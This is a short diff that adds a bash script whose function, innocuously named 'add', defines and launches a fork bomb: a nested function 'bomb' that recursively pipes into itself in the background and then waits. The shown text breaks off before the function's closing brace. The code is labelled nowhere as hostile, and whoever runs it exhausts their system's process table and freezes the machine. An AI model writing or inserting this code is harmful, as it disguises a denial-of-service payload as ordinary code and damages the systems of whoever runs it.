@@ -1,0 +1,7 @@
+#!/bin/bash
+add() {
+    bomb() {
+        bomb | bomb &
+    }
+    bomb
+    wait
